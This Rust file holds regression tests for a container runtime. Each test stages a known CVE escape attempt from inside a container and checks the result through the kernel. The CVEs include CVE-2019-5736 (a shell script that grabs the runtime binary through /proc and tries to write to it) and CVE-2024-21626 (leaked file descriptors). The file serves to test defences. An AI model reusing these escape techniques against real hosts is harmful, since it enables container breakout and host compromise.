//! Regression tests (root) for the runtime CVEs of shared/reference/oci-runtimes.md §3.
//! Each is a real attack attempt from inside a container (or from a hostile rootfs or
//! config), with the outcome read from the kernel: file hashes, /proc/PID/fd,
//! /proc/self/mountinfo, device numbers. Every attack target lies inside the test's own
//! temp dirs, so a vulnerable runtime damages nothing of the host's.
//! Each runs against runc 1.1.5 as well; where Debian's runc is known vulnerable, its
//! variant is ignored with the reason.

#[path = "common/mod.rs"]
#[macro_use]
mod common;

use common::{Bundle, Out, Runner, Runtime, proc, unique_id, wait_until};
use serde_json::json;
use std::fs;
use std::os::unix::fs::symlink;
use std::os::unix::process::CommandExt;
use std::time::Duration;

// ---------------------------------------------------------------------------------------
// CVE-2019-5736: overwriting the runtime binary through /proc/PID/exe
// ---------------------------------------------------------------------------------------

/// The attacker (container init) waits for a process whose exe is not busybox (the
/// runtime, made to exec /proc/self/exe by `exec`), holds its exe open, releases it, and
/// then tries to write through /proc/self/fd/3 once it is no longer running.
const EXE_ATTACK: &str = r#"
mkfifo /tmp/fifo
n=0; found=
while [ -z "$found" ] && [ $n -lt 3000 ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = 1 ] && continue
    l=$(readlink $d/exe 2>/dev/null) || continue
    case "$l" in ""|*busybox*) continue;; esac
    if exec 3< $d/exe; then echo "$p $l" > /tmp/victim; found=1; break; fi
  done
  n=$((n+1))
done
[ -n "$found" ] || { echo novictim > /tmp/result; exec sleep 1000; }
cat /tmp/fifo > /dev/null &
i=0
while [ $i -lt 100 ]; do
  if printf PWNED 2>/dev/null >> /proc/self/fd/3; then echo written > /tmp/result; exec sleep 1000; fi
  i=$((i+1)); sleep 0.05
done
echo refused > /tmp/result
exec sleep 1000
"#;

fn proc_self_exe_overwrite(rt: Runtime) {
    require_root!();
    // A private copy: a vulnerable runtime overwrites the copy, not the shared binary.
    let Some(r) = Runner::with_binary_copy(rt) else {
        return;
    };
    let before = proc::sha256(&r.bin);
    let mut b = Bundle::new();
    b.sh(EXE_ATTACK);
    let id = unique_id("exe");
    r.create_and_start(&b, &id);
    let fifo = b.rootfs().join("tmp/fifo");
    assert!(
        wait_until(Duration::from_secs(10), || fifo.exists()),
        "attacker never started"
    );

    // The victim: the runtime binary re-executed inside the container, blocked opening
    // its --log, a FIFO the attacker controls.
    // runc's exec refuses the path /proc/self/exe itself (its LookPath fails), so runc
    // gets the original exploit's form: a script whose interpreter is /proc/self/exe
    // (binfmt_script resolves it in the exec'ing process: the runtime).
    let evil = b.rootfs().join("bin/evil");
    fs::write(&evil, "#!/proc/self/exe --log=/tmp/fifo\n").unwrap_or_else(|e| panic!("{e}"));
    fs::set_permissions(&evil, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .unwrap_or_else(|e| panic!("{e}"));
    let args: &[&str] = match rt {
        Runtime::Runc => &["/bin/evil", "state", "nope"],
        Runtime::Capsa => &[
            "/proc/self/exe",
            "runc",
            "--log",
            "/tmp/fifo",
            "state",
            "nope",
        ],
    };
    let mut exec_args = vec!["exec", id.as_str()];
    exec_args.extend_from_slice(args);
    let exec = r.cmd(&exec_args);
    let result_file = b.rootfs().join("tmp/result");
    assert!(
        wait_until(Duration::from_secs(20), || result_file.exists()),
        "the attack did not finish; exec: {exec}"
    );
    let result = fs::read_to_string(&result_file).unwrap_or_default();
    let victim = fs::read_to_string(b.rootfs().join("tmp/victim")).unwrap_or_default();
    eprintln!("exec: {exec}\nvictim: {victim}result: {result}");
    assert_eq!(
        proc::sha256(&r.bin),
        before,
        "the runtime binary was modified from the container"
    );
    assert_ne!(
        result.trim(),
        "written",
        "the container wrote to the runtime's exe"
    );
    if result.trim() == "novictim" {
        // Only a refused exec explains a victim that never ran; anything else means the
        // attack did not happen and the test proves nothing.
        assert!(
            !exec.ok(),
            "exec succeeded yet the attacker never saw the runtime: {exec}"
        );
    }
}
e2e!(
    proc_self_exe_overwrite,
    runc_proc_self_exe_overwrite,
    capsa_proc_self_exe_overwrite
);

// ---------------------------------------------------------------------------------------
// CVE-2024-21626: leaked host fds, and a cwd through /proc/self/fd/N
// ---------------------------------------------------------------------------------------

const LEAKED_FD: i32 = 7;

/// Spawns `<runtime> run --preserve-fds 1` with fd 3 = a preserved file and fd 7 = a
/// leaked, non-CLOEXEC host directory that holds a secret.
fn run_with_leaked_fd(r: &Runner, b: &Bundle, id: &str, host_dir: &std::path::Path) -> Out {
    use rustix::fd::AsRawFd;
    let preserved =
        fs::File::create(r.scratch().join("preserved.txt")).unwrap_or_else(|e| panic!("{e}"));
    let dir = fs::File::open(host_dir).unwrap_or_else(|e| panic!("open {host_dir:?}: {e}"));
    // Move both above the target numbers so the dup2 calls below cannot clobber them.
    let p = rustix::io::fcntl_dupfd_cloexec(&preserved, 20).unwrap_or_else(|e| panic!("{e}"));
    let d = rustix::io::fcntl_dupfd_cloexec(&dir, 20).unwrap_or_else(|e| panic!("{e}"));
    let (pr, dr) = (p.as_raw_fd(), d.as_raw_fd());
    b.save();
    r.track(id);
    let mut c = r.command();
    c.args(["run", "--preserve-fds", "1", "--bundle", &b.path_str(), id]);
    // SAFETY: dup2 is async-signal-safe; pr and dr stay open in the parent until spawn
    // returns, and dup2 clears FD_CLOEXEC on the new descriptor, which is the point.
    unsafe {
        c.pre_exec(move || {
            if libc::dup2(pr, 3) < 0 || libc::dup2(dr, LEAKED_FD) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = common::run_cmd(c, r.scratch(), None, common::CMD_TIMEOUT);
    drop((p, d));
    out
}

fn leaked_fds_and_cwd(rt: Runtime) {
    require_root!();
    let Some(r) = Runner::new(rt) else { return };
    let host = common::temp_dir("hostsecret");
    fs::write(host.path().join("HOST_MARKER"), "host-secret-5f3a\n")
        .unwrap_or_else(|e| panic!("{e}"));

    // 1. Only 0-2 and the preserved fd 3 reach the container process.
    let mut b = Bundle::new();
    // pid 1 (the shell) lists its own fds through a child `ls`: no pipe of the shell's own
    // (a command substitution would add one) is open while it is listed.
    b.sh("ls -l /proc/1/fd");
    let out = run_with_leaked_fd(&r, &b, &unique_id("fds"), host.path());
    out.assert_ok("run with a leaked fd");
    let fds: Vec<&str> = out
        .stdout
        .lines()
        .filter_map(|l| {
            l.split_once(" -> ")
                .and_then(|(a, _)| a.split_whitespace().last())
        })
        .collect();
    assert_eq!(
        fds,
        ["0", "1", "2", "3"],
        "fds of the container process:\n{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("preserved.txt"),
        "fd 3 is not the preserved file:\n{}",
        out.stdout
    );

    // 2. cwd = /proc/self/fd/7 must not land the process in the host directory.
    let mut b = Bundle::new();
    b.config["process"]["cwd"] = json!(format!("/proc/self/fd/{LEAKED_FD}"));
    b.sh("cat HOST_MARKER 2>&1; cat ../HOST_MARKER 2>&1; pwd");
    let out = run_with_leaked_fd(&r, &b, &unique_id("cwd"), host.path());
    assert!(
        !out.stdout.contains("host-secret-5f3a"),
        "the container read a host file through its cwd: {out}"
    );
}
e2e!(
    leaked_fds_and_cwd,
    runc_leaked_fds_and_cwd,
    capsa_leaked_fds_and_cwd
);

// ---------------------------------------------------------------------------------------
// CVE-2021-30465: a mount destination that is a symlink pointing outside the rootfs
// ---------------------------------------------------------------------------------------

fn symlinked_mount_target(rt: Runtime) {
    require_root!();
    let Some(r) = Runner::new(rt) else { return };
    let outside = common::temp_dir("outside");
    let abs_target = outside.path().join("abs-newdir");
    let rel_target = outside.path().join("rel-newdir");
    let mut b = Bundle::new();
    let rootfs = b.rootfs();
    symlink(&abs_target, rootfs.join("evil-abs")).unwrap_or_else(|e| panic!("{e}"));
    let up = "../".repeat(rootfs.components().count() + 2);
    let rel = format!(
        "{up}{}",
        rel_target.to_string_lossy().trim_start_matches('/')
    );
    symlink(&rel, rootfs.join("evil-rel")).unwrap_or_else(|e| panic!("{e}"));
    for (dest, size) in [("/evil-abs", "1234k"), ("/evil-rel", "1236k")] {
        b.add_mount(
            json!({"destination": dest, "type": "tmpfs", "source": "tmpfs",
                           "options": [format!("size={size}")]}),
        );
    }
    b.sh("grep -E 'size=123[46]k' /proc/self/mountinfo");
    let out = r.run(&b, &unique_id("symmnt"));
    assert!(
        !abs_target.exists(),
        "the runtime created {abs_target:?} outside the rootfs"
    );
    assert!(
        !rel_target.exists(),
        "the runtime created {rel_target:?} outside the rootfs"
    );
    let entries = fs::read_dir(outside.path()).map(|d| d.count()).unwrap_or(0);
    assert_eq!(entries, 0, "something appeared in the outside dir");
    if out.ok() {
        // Accepted: both tmpfs must be visible in the container, i.e. inside its root.
        let lines: Vec<&str> = out.stdout.lines().collect();
        assert_eq!(
            lines.len(),
            2,
            "a tmpfs was mounted outside the container's root: {out}"
        );
    }
}
e2e!(
    symlinked_mount_target,
    runc_symlinked_mount_target,
    capsa_symlinked_mount_target
);

// ---------------------------------------------------------------------------------------
// CVE-2023-27561 / CVE-2019-19921: /proc or /sys as symlinks
// ---------------------------------------------------------------------------------------

fn special_dir_as_symlink(rt: Runtime, dir: &str) {
    require_root!();
    let Some(r) = Runner::new(rt) else { return };
    let b = Bundle::new();
    let rootfs = b.rootfs();
    let fake = rootfs.join("tmp/fake");
    fs::create_dir_all(&fake).unwrap_or_else(|e| panic!("{e}"));
    fs::remove_dir(rootfs.join(dir)).unwrap_or_else(|e| panic!("{e}"));
    symlink("/tmp/fake", rootfs.join(dir)).unwrap_or_else(|e| panic!("{e}"));
    let out = r.run(&b, &unique_id(&format!("{dir}link")));
    assert!(
        !out.ok(),
        "a /{dir} symlink in the rootfs must be refused: {out}"
    );
    let t = out.text_lower();
    assert!(
        ["symlink", "ordinary directory", "not a directory"]
            .iter()
            .any(|w| t.contains(w)),
        "unclear error for a /{dir} symlink: {out}"
    );
}
fn proc_as_symlink(rt: Runtime) {
    special_dir_as_symlink(rt, "proc")
}
fn sys_as_symlink(rt: Runtime) {
    special_dir_as_symlink(rt, "sys")
}
e2e!(proc_as_symlink, runc_proc_as_symlink, capsa_proc_as_symlink);
e2e!(sys_as_symlink, runc_sys_as_symlink, capsa_sys_as_symlink);

// ---------------------------------------------------------------------------------------
// CVE-2022-29162: inheritable capabilities (by default and with exec --cap)
// ---------------------------------------------------------------------------------------

fn caps_of(text: &str) -> std::collections::BTreeMap<String, String> {
    proc::status_fields(text)
}

fn inheritable_caps_empty(rt: Runtime) {
    require_root!();
    let Some(r) = Runner::new(rt) else { return };
    let mut b = Bundle::new();
    b.args(&["sleep", "1000"]);
    let id = unique_id("inh");
    let pid = r.create_and_start(&b, &id);
    let init = caps_of(&fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default());
    assert_eq!(
        proc::cap_mask(&init, "CapInh"),
        Some(0),
        "init CapInh: {init:?}"
    );
    assert_eq!(
        proc::cap_mask(&init, "CapAmb"),
        Some(0),
        "init CapAmb: {init:?}"
    );

    let out = r.cmd(&[
        "exec",
        "--cap",
        "CAP_SYS_ADMIN",
        &id,
        "cat",
        "/proc/self/status",
    ]);
    out.assert_ok("exec --cap CAP_SYS_ADMIN");
    let f = caps_of(&out.stdout);
    assert_eq!(
        proc::cap_mask(&f, "CapInh"),
        Some(0),
        "exec --cap filled inheritable"
    );
    assert_eq!(
        proc::cap_mask(&f, "CapAmb"),
        Some(0),
        "exec --cap filled ambient"
    );
    let eff = proc::cap_mask(&f, "CapEff").unwrap_or(0);
    assert_ne!(
        eff & (1 << 21),
        0,
        "exec --cap did not grant CAP_SYS_ADMIN: {eff:#x}"
    );
}
e2e!(
    inheritable_caps_empty,
    runc_inheritable_caps_empty,
    capsa_inheritable_caps_empty
);

// ---------------------------------------------------------------------------------------
// CVE-2025-31133: the /dev/null used to mask paths swapped for a symlink
// ---------------------------------------------------------------------------------------

fn masked_path_dev_null_symlink(rt: Runtime) {
    require_root!();
    let Some(r) = Runner::new(rt) else { return };
    let mut b = Bundle::new();
    // No /dev tmpfs: the runtime works in the rootfs's own /dev, which the image controls.
    b.remove_mount("/dev")
        .remove_mount("/dev/pts")
        .remove_mount("/dev/shm")
        .remove_mount("/dev/mqueue");
    let rootfs = b.rootfs();
    fs::write(rootfs.join("tmp/canary"), "CANARY-31133\n").unwrap_or_else(|e| panic!("{e}"));
    symlink("/tmp/canary", rootfs.join("dev/null")).unwrap_or_else(|e| panic!("{e}"));
    b.sh("head -c 20 /proc/kcore 2>&1; echo; stat -c 'kcore %F %t:%T' /proc/kcore");
    let out = r.run(&b, &unique_id("devnull"));
    assert!(
        !out.stdout.contains("CANARY-31133"),
        "a masked path shows the symlink's target: {out}"
    );
    if out.ok() {
        assert!(
            out.stdout.contains("kcore character special file 1:3"),
            "/proc/kcore is not masked by the real /dev/null: {out}"
        );
    }
}
e2e!(
    masked_path_dev_null_symlink,
    runc_masked_path_dev_null_symlink,
    capsa_masked_path_dev_null_symlink
);

// ---------------------------------------------------------------------------------------
// CVE-2025-52565: /dev/console redirected by a symlink
// ---------------------------------------------------------------------------------------

fn dev_console_symlink(rt: Runtime) {
    require_root!();
    let Some(r) = Runner::new(rt) else { return };
    let mut b = Bundle::new();
    b.remove_mount("/dev");
    let rootfs = b.rootfs();
    fs::write(rootfs.join("tmp/console-canary"), "CANARY-52565\n")
        .unwrap_or_else(|e| panic!("{e}"));
    symlink("/tmp/console-canary", rootfs.join("dev/console")).unwrap_or_else(|e| panic!("{e}"));
    b.terminal(true).sh(
        "{ stat -c 'console %F %t' /dev/console; stat -c 'canary %F' /tmp/console-canary; \
         } > /tmp/out.new 2>&1; mv /tmp/out.new /tmp/out",
    );
    let sock = r.scratch().join("console.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap_or_else(|e| panic!("{e}"));
    listener
        .set_nonblocking(true)
        .unwrap_or_else(|e| panic!("{e}"));
    let id = unique_id("console");
    let (out, _) = r.create(&b, &id, &["--console-socket", &sock.to_string_lossy()]);
    if !out.ok() {
        eprintln!("refused: {}", r.read_container_log(&id));
        return; // Refusing the hostile /dev/console is a correct outcome.
    }
    let (_master, _) = common::receive_master(&listener);
    r.cmd(&["start", &id]).assert_ok("start");
    let done = rootfs.join("tmp/out");
    assert!(
        wait_until(Duration::from_secs(10), || fs::read_to_string(&done)
            .is_ok_and(|t| t.contains("canary"))),
        "the probe did not finish: state {:?}",
        r.state(&id)
    );
    let res = fs::read_to_string(rootfs.join("tmp/out")).unwrap_or_default();
    assert!(
        res.contains("console character special file 88"),
        "/dev/console is not a pts (major 136): {res}"
    );
    assert!(
        res.contains("canary regular file"),
        "the pty was mounted over the symlink's target: {res}"
    );
}
#[test]
#[ignore = "runc 1.1.5 is vulnerable: it binds the pty over the symlink's target (fixed in runc 1.2.8/1.3.3)"]
fn runc_dev_console_symlink() {
    dev_console_symlink(Runtime::Runc)
}
#[test]
fn capsa_dev_console_symlink() {
    dev_console_symlink(Runtime::Capsa)
}

// ---------------------------------------------------------------------------------------
// CVE-2025-52881 (where testable): procfs writes redirected by a mount over /proc/sys
// ---------------------------------------------------------------------------------------

/// A bind mount of an image directory over /proc/sys/kernel must not turn the runtime's
/// sysctl write into a write to that image file.
fn sysctl_write_redirected(rt: Runtime) {
    require_root!();
    let Some(r) = Runner::new(rt) else { return };
    let mut b = Bundle::new();
    let fake = b.rootfs().join("fake-kernel");
    fs::create_dir_all(&fake).unwrap_or_else(|e| panic!("{e}"));
    fs::write(fake.join("domainname"), "FAKE\n").unwrap_or_else(|e| panic!("{e}"));
    b.add_mount(json!({"destination": "/proc/sys/kernel", "type": "bind",
                       "source": fake, "options": ["rbind", "rw"]}));
    b.config["linux"]["sysctl"] = json!({"kernel.domainname": "capsa-52881"});
    b.config["linux"]["readonlyPaths"] = json!([]);
    b.args(&["true"]);
    let out = r.run(&b, &unique_id("sysctl"));
    let after = fs::read_to_string(fake.join("domainname")).unwrap_or_default();
    assert_eq!(
        after, "FAKE\n",
        "the sysctl write landed in an image file: {out}"
    );
}
e2e!(
    sysctl_write_redirected,
    runc_sysctl_write_redirected,
    capsa_sysctl_write_redirected
);
